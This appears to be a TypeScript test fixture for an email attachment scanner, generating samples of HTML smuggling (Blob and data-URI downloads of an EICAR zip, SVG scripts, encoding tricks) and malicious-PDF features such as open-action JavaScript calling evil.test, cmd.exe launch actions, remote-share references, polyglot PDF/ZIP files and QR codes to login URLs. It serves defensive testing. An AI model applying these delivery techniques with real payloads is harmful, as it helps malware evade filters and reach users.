import { lyingZip } from '../archives.ts';
import { type Attachment, mailWith } from '../mails.ts';
import { flateStream, objectStream, onePage, pdfFile, pdfStream } from '../pdf.ts';
import { png, qrCode } from '../pictures.ts';
import type { Row } from './case.ts';
import { eicar, eicarZip, fileCase, mailCase, written } from './making.ts';

const base64 = eicarZip.toString('base64');
const page = (body: string, name = 'invoice.html'): Attachment => ({
  name,
  type: 'text/html',
  content: Buffer.from(`<!doctype html><html><body><p>Your invoice</p>${body}</body></html>`),
});
const SAVE =
  'var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.zip";a.click();';
const pieces = (text: string): string => `"${(text.match(/.{1,40}/g) ?? []).join('"+"')}"`;

export const SMUGGLING_ROW: Row = {
  name: 'html-smuggling',
  attack: 'Pages and pictures that build a file in the browser.',
  cases: [
    fileCase('blob', 'a Blob of base64', () => page(`<script>var d="${base64}";${SAVE}</script>`)),
    fileCase('blob-in-pieces', 'the same in pieces', () => page(`<script>var d=${pieces(base64)};${SAVE}</script>`)),
    fileCase('numbers', 'an array of numbers', () =>
      page(
        `<script>var b=new Blob([new Uint8Array([${[...eicarZip].join(',')}])]);navigator.msSaveOrOpenBlob(b,"invoice.zip")</script>`,
      ),
    ),
    fileCase('data-address', 'an address that holds the file', () =>
      page(`<a id="x" download="invoice.zip" href="data:application/zip;base64,${base64}">x</a>`),
    ),
    fileCase('data-frame', 'a frame that holds the file', () =>
      page(`<iframe src="data:application/octet-stream;base64,${base64}"></iframe>`),
    ),
    fileCase('svg', 'a picture with a script', () => ({
      name: 'invoice.svg',
      type: 'image/svg+xml',
      content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>var d="${base64}";${SAVE}</script></svg>`),
    })),
    mailCase('in-the-text', 'the text of the mail itself', () =>
      written(['Content-Type: text/html'], `<html><body><script>var d="${base64}";${SAVE}</script></body></html>`),
    ),
    fileCase('shtml', 'under another name', () => page(`<script>var d="${base64}";${SAVE}</script>`, 'invoice.shtml')),
    fileCase(
      'utf-16',
      'in UTF-16',
      () => ({
        ...page(''),
        content: Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(`<html><script>var d="${base64}";${SAVE}</script></html>`, 'utf16le'),
        ]),
      }),
      { with: 'charsets' },
    ),
    mailCase(
      'junk',
      'below a padded group in base64',
      () =>
        mailWith('papers', page(`<script>var d="${base64}";${SAVE}</script>`)).replace(
          /(base64\r\n.*\r\n\r\n)/,
          '$1AA==\r\n',
        ),
      { with: 'encoding-laxness' },
    ),
  ],
};

const onOpening = (action: string): Buffer => pdfFile({ objects: onePage({ catalog: `/OpenAction ${action}` }) });
const pdf = (content: Buffer): Attachment => ({ name: 'papers.pdf', type: 'application/pdf', content });
const embedding = (name: string, content: Buffer): Buffer =>
  pdfFile({
    objects: onePage({
      catalog: `/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>`,
      objects: {
        8: `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 9 0 R >> >>`,
        9: flateStream(content, '/Type /EmbeddedFile'),
      },
    }),
  });

export const PDF_ROW: Row = {
  name: 'pdf-and-codes',
  attack: 'Scripts, programs, files and encryption in PDFs; addresses in QR codes.',
  cases: [
    fileCase('script', 'a script that runs as the document is opened', () =>
      pdf(onOpening('<< /S /JavaScript /JS (app.launchURL\\("http://evil.test/"\\)) >>')),
    ),
    fileCase('script-in-object-stream', 'a script in an object stream, under escaped names', () =>
      pdf(
        pdfFile({
          objects: onePage({
            catalog: '/OpenAction 8 0 R',
            objects: { 9: objectStream({ 8: '<< /#53 /J#61vaScript /J#53 <6576616c2829> >>' }) },
          }),
        }),
      ),
    ),
    fileCase('launch', 'a program that is started', () =>
      pdf(onOpening('<< /S /Launch /Win << /F (cmd.exe) /P (/c x) >> >>')),
    ),
    fileCase('share', 'a file on another computer', () =>
      pdf(onOpening('<< /S /GoToE /F (\\\\\\\\evil.test\\\\share\\\\x.pdf) /D [0 /Fit] >>')),
    ),
    fileCase('embedded-file', 'EICAR as an embedded file', () => pdf(embedding('readme.txt', eicar))),
    fileCase('embedded-program', 'a script as an embedded file', () =>
      pdf(embedding('run.js', Buffer.from('WScript.Echo("x")'))),
    ),
    fileCase('encrypted', 'a PDF that needs a password', () =>
      pdf(
        pdfFile({
          objects: onePage({
            objects: {
              9: `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}> >>`,
            },
          }),
          trailer:
            '/Root 1 0 R /Encrypt 9 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
        }),
      ),
    ),
    fileCase('unknown-filter', 'a stream that nobody can unpack', () =>
      pdf(pdfFile({ objects: onePage({ content: pdfStream(Buffer.alloc(300, 0xa5), '/Filter /NoneDecode') }) })),
    ),
    {
      ...fileCase('qr-code', 'a QR code with a forbidden address', async () => ({
        name: 'code.png',
        content: png(await qrCode('https://login.test/falconry')),
      })),
    },
    fileCase(
      'qr-code-in-a-document',
      'a QR code in a PDF with a script',
      async () => {
        const { width, height, grey } = await qrCode('https://login.test/falconry');
        const image = flateStream(
          grey,
          `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8`,
        );
        return pdf(
          pdfFile({
            objects: {
              ...onePage({
                catalog: '/OpenAction << /S /JavaScript /JS (eval\\(x\\)) >>',
                content: flateStream('q 300 0 0 300 100 300 cm /I Do Q'),
                page: '/Resources << /XObject << /I 8 0 R >> >>',
                objects: { 8: image },
              }),
            },
          }),
        );
      },
      { with: 'pdf-and-codes' },
    ),
    fileCase(
      'pdf-and-zip',
      'a PDF that is a ZIP, with a script',
      () => pdf(Buffer.concat([onOpening('<< /S /JavaScript /JS (eval\\(x\\)) >>'), eicarZip])),
      { with: 'split-and-polyglot' },
    ),
    fileCase(
      'in-lying-zip',
      'a PDF with a program in a ZIP with two names',
      () => ({
        name: 'papers.zip',
        content: lyingZip([
          { name: 'papers.pdf', content: onOpening('<< /S /Launch /F (cmd.exe) >>'), local: { name: 'papers.txt' } },
        ]),
      }),
      { with: 'zip-disagreements' },
    ),
  ],
};
